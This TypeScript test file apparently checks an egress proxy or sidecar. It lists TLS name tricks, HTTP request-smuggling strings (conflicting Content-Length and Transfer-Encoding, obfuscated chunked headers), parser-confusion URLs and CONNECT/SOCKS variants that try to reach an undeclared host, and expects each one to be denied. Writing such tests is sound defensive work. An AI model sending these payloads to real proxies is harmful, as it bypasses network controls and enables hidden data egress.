// Ways out inside what is declared: another server's name in TLS, none, a hidden one; and requests that two readers read in two ways.

import { API, OTHER } from '../../support/egress/addresses.ts'
import type { Proof, RecordOf, Row, SidecarMay } from '../../support/egress/row.ts'
import {
  connectText,
  denied,
  getText,
  MALFORMED,
  observed,
  OTHER_IS_THERE,
  row,
} from './proxy-rows.ts'

/** The connection may be made; nothing may be said on it. */
const DIALS_ONLY: SidecarMay = { asks: ['api.example'], dials: [API.v4] }
const SENDS = (hidden: string): SidecarMay => ({ ...DIALS_ONLY, sendsAllBut: hidden })

/** What in its bytes tells of it: in pieces of one byte, the first of them. */
const markOf = (kind: string): string =>
  kind === 'in-single-bytes' ? '\u0016\u0003\u0001\0\u0001' : 'way-out'

const hello = (kind: string, why: string, name = 'other.example'): Row =>
  row(`TLS in a tunnel: ${kind}`, {
    words: ['hello', 'api.example:443', kind, name],
    // Where nothing is enforced, the same bytes reach the declared host.
    proof: observed({ kind: 'tcp', to: API.v4, port: 443, text: markOf(kind) }),
    record: denied(why, 'connect'),
    sidecar: DIALS_ONLY,
  })

const TLS_ROWS: readonly Row[] = [
  hello('named', 'tls-name'),
  hello('nameless', 'tls-name'),
  hello('no-extensions', 'tls-name'),
  hello('encrypted', 'tls-encrypted-name', 'api.example'),
  hello('two-names', 'no-tls'),
  hello('two-entries', 'no-tls'),
  hello('in-two-records', 'tls-name'),
  hello('in-pieces', 'tls-name'),
  hello('in-single-bytes', 'no-tls'),
  hello('version-2', 'no-tls'),
  hello('text', 'no-tls'),
  hello('alert-first', 'no-tls'),
  hello('null-in-name', 'no-tls'),
  hello('huge', 'tls-name'),
]

interface HttpRow {
  readonly parts: readonly string[]
  readonly record?: RecordOf
  readonly sidecar?: SidecarMay
  readonly proof?: Proof
}

const http = (name: string, { parts, record = MALFORMED, sidecar, proof }: HttpRow): Row =>
  row(`HTTP: ${name}`, {
    words: ['raw', 'right', ...parts],
    proof: proof ?? OTHER_IS_THERE,
    record,
    ...(sidecar && { sidecar }),
  })

const HIDDEN = 'GET http://other.example/{mark} HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'
const smuggled = (name: string, head: string, body: string): Row =>
  http(name, {
    parts: [
      `POST http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n{auth}${head}\\r\\n${body}`,
    ],
    // What reaches the declared host is that host's own business; what is hidden in it must not be one more request.
    sidecar: SENDS('GET http://other.example'),
    record: { verdict: 'denied' },
  })

/** A URL that one reader takes for the declared host, another for the other. */
const twofold = (url: string): Row =>
  http(`GET ${url}`, {
    parts: [getText(url, 'api.example')],
    sidecar: SENDS('way-out'),
    record: { verdict: 'denied' },
  })

const HTTP_ROWS: readonly Row[] = [
  http('another host in its header', {
    parts: [getText('http://api.example/{mark}', 'other.example')],
    sidecar: SENDS('other.example'),
  }),
  http('two hosts in headers', {
    parts: [getText('http://api.example/{mark}', 'api.example', 'Host: other.example\\r\\n')],
    sidecar: SENDS('other.example'),
  }),
  smuggled(
    'both lengths',
    'Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n',
    `0\\r\\n\\r\\n${HIDDEN}`,
  ),
  smuggled('two lengths', 'Content-Length: 0\\r\\nContent-Length: 90\\r\\n', HIDDEN),
  smuggled('a coding that is none', 'Transfer-Encoding: xchunked\\r\\n', `0\\r\\n\\r\\n${HIDDEN}`),
  smuggled(
    'a space before the colon',
    'Transfer-Encoding : chunked\\r\\n',
    `0\\r\\n\\r\\n${HIDDEN}`,
  ),
  smuggled(
    'a folded header',
    'X: 1\\r\\n Transfer-Encoding: chunked\\r\\n',
    `0\\r\\n\\r\\n${HIDDEN}`,
  ),
  smuggled('line feeds alone', 'X: 1\\nTransfer-Encoding: chunked\\n', `0\\r\\n\\r\\n${HIDDEN}`),
  http('a second request behind the first', {
    parts: [
      getText('http://api.example/first', 'api.example') +
        getText('http://other.example/{mark}', 'other.example'),
    ],
    proof: observed({ kind: 'tcp', to: OTHER.v4, port: 80, flags: 'S' }),
    sidecar: SENDS('other.example'),
    record: denied('undeclared', 'http'),
  }),
  twofold('http://api.example@other.example/{mark}'),
  twofold('http://other.example\\\\@api.example/{mark}'),
  twofold('http://api.example:80@other.example/{mark}'),
  twofold('http://other.example#@api.example/{mark}'),
  twofold('http://other.example?@api.example/{mark}'),
  twofold('http://api.example%2eother.example/{mark}'),
  twofold('http://api.example\\x00.other.example/{mark}'),
  twofold('http://api.example\\x09other.example/{mark}'),
  twofold('https://other.example/{mark}'),
  twofold('ftp://other.example/{mark}'),
  twofold('//other.example/{mark}'),
  twofold('/{mark}'),
  http('CONNECT with two authorities', {
    parts: [connectText('api.example:443@other.example:443')],
    record: { verdict: 'denied' },
  }),
  http('CONNECT with two ports', {
    parts: [connectText('other.example:443:80')],
    record: { verdict: 'denied' },
  }),
  http('CONNECT to one host, Host of another', {
    parts: ['CONNECT other.example:443 HTTP/1.1\\r\\nHost: api.example:443\\r\\n{auth}\\r\\n'],
    record: { verdict: 'denied' },
  }),
  http('CONNECT with its data in the same piece', {
    parts: [`${connectText('other.example:8080')}{mark}`],
    proof: observed({ kind: 'tcp', to: OTHER.v4, port: 8080, text: 'way-out' }),
    record: denied('undeclared', 'connect'),
  }),
  http('CONNECT of HTTP/1.0', {
    parts: ['CONNECT other.example:8080 HTTP/1.0\\r\\n{auth}\\r\\n'],
    record: { verdict: 'denied' },
  }),
  row('SOCKS to a name with a null in it', {
    words: ['socks', 'right', 'api.example\\x00.other.example', '80'],
    proof: OTHER_IS_THERE,
    record: { verdict: 'denied' },
  }),
  row('SOCKS, listening', {
    words: ['socks', 'right', '0.0.0.0', '8080', '2'],
    proof: observed({ kind: 'tcp', to: OTHER.v4, port: 8080, flags: 'S' }, [
      'socks',
      'right',
      OTHER.v4,
      '8080',
      '1',
    ]),
    record: { verdict: 'denied' },
  }),
  row('SOCKS, datagrams', {
    words: ['socks', 'right', OTHER.v4, '8080', '3'],
    proof: observed({ kind: 'tcp', to: OTHER.v4, port: 8080, flags: 'S' }, [
      'socks',
      'right',
      OTHER.v4,
      '8080',
      '1',
    ]),
    record: { verdict: 'denied' },
  }),
]

export const TUNNEL_ROWS: readonly Row[] = [...TLS_ROWS, ...HTTP_ROWS]
